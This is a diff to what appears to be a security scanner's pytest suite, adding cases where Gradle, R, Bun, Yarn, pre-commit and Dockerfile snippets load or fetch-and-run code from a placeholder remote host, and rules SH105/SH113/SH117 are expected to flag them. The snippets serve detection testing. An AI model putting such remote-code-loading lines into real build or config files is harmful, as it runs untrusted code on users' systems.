@@ -245,6 +245,27 @@ def test_attack_a_package_or_program_from_a_bare_address_is_found(command, rule)
 
 
 @pytest.mark.parametrize(
+    ("path", "text", "rule"),
+    [
+        ("build.gradle", "apply from: 'https://HOST/a.gradle'", "SH105"),
+        ("build.gradle.kts", 'apply(from = "https://HOST/a.gradle.kts")', "SH105"),
+        ("scripts/a.R", 'source("https://HOST/a.R")', "SH105"),
+        ("bunfig.toml", 'preload = ["https://HOST/a.ts"]', "SH105"),
+        (".yarnrc.yml", "plugins:\n  - path: .yarn/plugins/a.cjs\n    spec: 'https://HOST/a.cjs'", "SH105"),
+        (".pre-commit-config.yaml", "repos:\n  - repo: https://HOST/a.git\n    rev: v1", "SH117"),
+        (
+            "Dockerfile",
+            "FROM a\nADD --chown=a https://HOST/a /usr/local/bin/a\nRUN chmod +x /usr/local/bin/a && a -d",
+            "SH113",
+        ),
+    ],
+)
+def test_attack_code_that_a_tool_loads_from_an_address_is_found(path, text, rule):
+    assert severe(text.replace("HOST", "c.invalid"), path) == {rule}
+    assert not severe(text.replace("HOST", "github.com/vendor"), path)
+
+
+@pytest.mark.parametrize(
     "command",
     [
         "pip install https://vendor.example/a.whl",
